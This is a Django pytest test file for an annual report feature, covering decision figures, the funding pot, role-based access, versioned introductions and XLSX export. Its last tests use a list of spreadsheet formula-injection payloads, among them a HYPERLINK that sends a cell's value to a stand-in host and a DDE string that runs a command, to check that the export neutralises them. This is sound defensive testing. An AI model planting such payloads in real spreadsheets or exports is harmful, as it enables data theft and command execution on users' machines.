"""The annual report to the parties: figures from decisions (by kind and state), the pot and
the follow-ups; the versioned introduction; the printable page and the XLSX (opened with
openpyxl); the access matrix and query counts."""

import datetime
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from alfadmin.kernel.spreadsheets import REPLACEMENT
from alfadmin.models import Region, User
from evaluations.tests.factories import make_round
from guns import services
from guns.models import AnnualReport, Decision, FollowUpEntry, GunsSettings
from guns.selectors import annual_report_data
from testsupport.pages import login_redirect

from .factories import DecisionFactory, funding, pot_income

ROLES = ["admin", "guns", "guns2", "vr", "sth", "ore", "viewer"]
EDITORS = {"admin", "guns"}  # administrators and the chair (demo user guns)


@pytest.fixture
def login(client, role_users):
    def as_user(username):
        client.force_login(role_users[username])
        return client

    return as_user


@pytest.fixture
def year_2025(role_users, meeting_with):
    """2025: income 1.5 Mkr; two funding decisions adopted (1 Mkr + 200 tkr, 300 tkr paid), one
    rejected follow-up, one draft statement; 2024's adopted decision stays out; two follow-ups."""
    guns = role_users["guns"]
    pot_income(2025, set_aside=1_000_000, forfeited=500_000)
    meeting = meeting_with(5, 3, date=datetime.date(2025, 4, 1))
    adopted = []
    for amount in (1_000_000, 200_000):
        decision = services.decision_transition(actor=guns, decision=funding(amount), action="schedule", meeting=meeting)
        adopted.append(services.decision_transition(actor=guns, decision=decision, action="adopt", consensus=True))
    services.payment_record(actor=role_users["admin"], decision=adopted[0], amount=300_000, paid_on=datetime.date(2025, 6, 1))
    rejected = services.decision_transition(
        actor=guns, decision=DecisionFactory(kind="follow_up_agreement", title="Avslaget"), action="schedule", meeting=meeting
    )
    services.decision_transition(actor=guns, decision=rejected, action="reject", votes={"yes": 1, "no": 5, "abstain": 0})
    earlier = meeting_with(5, 3, date=datetime.date(2024, 11, 1))
    old = services.decision_transition(actor=guns, decision=DecisionFactory(title="Förra året"), action="schedule", meeting=earlier)
    services.decision_transition(actor=guns, decision=old, action="adopt", consensus=True)
    statement = DecisionFactory(kind="reference_group_statement", title="Yttrande utkast")
    statement.created_at = datetime.datetime(2025, 5, 1, tzinfo=datetime.UTC)
    statement.save()
    evaluation_round = make_round(actor=role_users["admin"])
    for code, kind in (("STH", "note"), ("ORE", "action")):
        entry = services.follow_up_entry_create(
            actor=role_users["guns2"],
            evaluation_round=evaluation_round,
            region=Region.objects.get(code=code),
            kind=kind,
            text=f"Uppföljning {code}",
        )
        FollowUpEntry.objects.filter(pk=entry.pk).update(created_at=datetime.datetime(2025, 9, 1, tzinfo=datetime.UTC))
    return {"adopted": adopted, "statement": statement}


def test_figures_from_decisions_pot_and_follow_ups(year_2025, role_users):
    data = annual_report_data(user=role_users["viewer"], year=2025)
    by_kind = {row.kind: row.by_state for row in data.summary}
    assert by_kind["national_initiative"] == {"adopted": 2}
    assert by_kind["follow_up_agreement"] == {"rejected": 1}
    assert by_kind["reference_group_statement"] == {"draft": 1}
    assert by_kind["other"] == {}  # 2024's decision is not in 2025's report
    assert data.state_totals["adopted"] == 2
    assert [d.number for d in data.decisions if d.number] == ["GUNS 2025:1", "GUNS 2025:2"]
    pot = data.pot
    assert (pot.set_aside, pot.forfeited, pot.income, pot.committed, pot.paid, pot.available) == (
        1_000_000,
        500_000,
        1_500_000,
        1_200_000,
        300_000,
        300_000,
    )
    assert data.carried_to_next == 300_000
    assert [(e.region.code, e.kind) for e in data.follow_ups] == [("ORE", "action"), ("STH", "note")]


def test_no_carry_over_when_the_setting_forbids_it(year_2025, role_users):
    GunsSettings.objects.update_or_create(pk=1, defaults={"carry_over": False})
    assert annual_report_data(user=role_users["viewer"], year=2025).carried_to_next == 0


def test_anonymous_is_sent_to_login(registry_demo, client):
    for url in (
        reverse("guns:annual_report"),
        reverse("guns:annual_report_xlsx", args=[2025]),
        reverse("guns:annual_report_introduction", args=[2025]),
    ):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"] == login_redirect(url)


@pytest.mark.parametrize("role", ROLES)
def test_every_role_reads_the_report_and_the_workbook(year_2025, login, role):
    client = login(role)
    page = client.get(reverse("guns:annual_report"), {"year": 2025}).content.decode()
    assert "GUNS 2025:1" in page and "Förra året" not in page
    assert "guns/print.css" in page
    assert ("/guns/annual-report/2025/introduction/" in page) is (role in EDITORS)
    response = client.get(reverse("guns:annual_report_xlsx", args=[2025]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    book = load_workbook(BytesIO(response.content))
    assert book.sheetnames == ["Decisions", "Pot", "Follow-ups"]
    decisions = [row for row in book["Decisions"].iter_rows(min_row=2, values_only=True) if row and row[0]]
    assert ("GUNS 2025:1", "National initiative (funding)") == decisions[0][:2]
    assert decisions[0][5] == 1_000_000 and decisions[0][7] == 300_000
    pot = {row[0]: row[1] for row in book["Pot"].iter_rows(min_row=2, values_only=True)}
    assert (pot["Income"], pot["Committed"], pot["Paid"], pot["Available"], pot["Carried over to the next year"]) == (
        1_500_000,
        1_200_000,
        300_000,
        300_000,
        300_000,
    )
    follow_ups = list(book["Follow-ups"].iter_rows(min_row=2, values_only=True))
    assert [(row[1], row[2], row[3]) for row in follow_ups] == [("ORE", "Action", "Uppföljning ORE"), ("STH", "Note", "Uppföljning STH")]


@pytest.mark.parametrize("role", ROLES)
def test_only_the_chair_and_admins_edit_the_introduction(registry_demo, login, role):
    client = login(role)
    url = reverse("guns:annual_report_introduction", args=[2025])
    assert client.get(url).status_code == (200 if role in EDITORS else 403)
    response = client.post(url, {"introduction": f"Inledning av {role}", "version": 0})
    assert response.status_code == (302 if role in EDITORS else 403)
    assert AnnualReport.objects.filter(year=2025).exists() is (role in EDITORS)


def test_introduction_is_versioned_with_history_and_409(registry_demo, login):
    client = login("guns")
    url = reverse("guns:annual_report_introduction", args=[2025])
    form = client.get(url).content.decode()
    assert 'name="version" value="0"' in form
    assert client.post(url, {"introduction": "Första", "version": 0}).status_code == 302
    stale_first_writer = client.post(url, {"introduction": "Också först", "version": 0})
    assert stale_first_writer.status_code == 409
    assert client.post(url, {"introduction": "Andra", "version": 1}).status_code == 302
    assert client.post(url, {"introduction": "Tredje", "version": 1}).status_code == 409
    report = AnnualReport.objects.get(year=2025)
    assert (report.introduction, report.version, report.history.count()) == ("Andra", 2, 2)
    page = client.get(reverse("guns:annual_report_year", args=[2025])).content.decode()
    assert "Andra" in page and "History of the introduction" in page


def test_service_refuses_an_ordinary_member(registry_demo):
    from django.core.exceptions import PermissionDenied

    with pytest.raises(PermissionDenied):
        services.annual_report_update(actor=User.objects.get(username="guns2"), year=2025, introduction="x")


def test_query_counts_are_constant(year_2025, login, role_users, meeting_with, django_assert_max_num_queries):
    client = login("viewer")
    with django_assert_max_num_queries(40) as before:
        assert client.get(reverse("guns:annual_report"), {"year": 2025}).status_code == 200
    with django_assert_max_num_queries(40) as before_xlsx:
        assert client.get(reverse("guns:annual_report_xlsx", args=[2025])).status_code == 200
    meeting = meeting_with(5, 3, date=datetime.date(2025, 10, 1))
    for n in range(4):
        decision = services.decision_transition(
            actor=role_users["guns"], decision=DecisionFactory(title=f"Mer {n}"), action="schedule", meeting=meeting
        )
        services.decision_transition(actor=role_users["guns"], decision=decision, action="adopt", consensus=True)
    with django_assert_max_num_queries(len(before.captured_queries)):
        assert client.get(reverse("guns:annual_report"), {"year": 2025}).status_code == 200
    with django_assert_max_num_queries(len(before_xlsx.captured_queries)):
        assert client.get(reverse("guns:annual_report_xlsx", args=[2025])).status_code == 200


PAYLOADS = ['=HYPERLINK("http://x?"&A2,"Click")', "=cmd|' /C calc'!A0", "+1", "-2+3", "@SUM(A1)", "\tleading tab", "\rleading CR"]


def _sheets(response) -> dict:
    assert response.status_code == 200
    return {sheet.title: list(sheet.iter_rows(min_row=2)) for sheet in load_workbook(BytesIO(response.content)).worksheets}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_like_titles_and_texts_are_text_cells_in_the_workbook(year_2025, login, payload):
    Decision.objects.filter(pk=year_2025["statement"].pk).update(title=payload)
    FollowUpEntry.objects.filter(region__code="STH").update(text=payload)
    sheets = _sheets(login("viewer").get(reverse("guns:annual_report_xlsx", args=[2025]), HTTP_ACCEPT_LANGUAGE="en"))
    shown = payload.replace("\r", "\n")  # XML reads a carriage return as a line feed
    title = next(row[2] for row in sheets["Decisions"] if row[2].value == shown)
    text = next(row[3] for row in sheets["Follow-ups"] if row[1].value == "STH")
    assert (title.data_type, text.value, text.data_type) == ("s", shown, "s")
    assert all(cell.data_type != "f" for rows in sheets.values() for row in rows for cell in row)


def test_a_stored_control_character_is_replaced_in_the_workbook(year_2025, login):
    Decision.objects.filter(pk=year_2025["statement"].pk).update(title="Yttrande\u000butkast")
    sheets = _sheets(login("viewer").get(reverse("guns:annual_report_xlsx", args=[2025]), HTTP_ACCEPT_LANGUAGE="en"))
    assert any(row[2].value == f"Yttrande{REPLACEMENT}utkast" for row in sheets["Decisions"])


def test_the_api_refuses_a_control_character_in_a_decision_naming_the_field(registry_demo, api_client, role_users):
    api_client.force_authenticate(role_users["guns"])
    response = api_client.post(
        "/api/v1/guns/decisions/", {"title": "Ny\u000bsatsning", "kind": "other"}, format="json", HTTP_ACCEPT_LANGUAGE="en"
    )
    assert response.status_code == 400
    assert response.json() == {"title": ["Title contains a control character (U+000B): remove it (it usually comes from pasting)."]}


def test_the_decision_page_refuses_a_control_character_naming_the_field(registry_demo, login):
    response = login("guns").post(
        reverse("guns:decision_create"), {"kind": "other", "title": "Ny", "text": "Bak\u000bgrund"}, HTTP_ACCEPT_LANGUAGE="en"
    )
    assert response.status_code == 400
    assert response.context["form"].errors["text"] == ["Text contains a control character (U+000B): remove it (it usually comes from pasting)."]
    assert not Decision.objects.filter(title="Ny").exists()
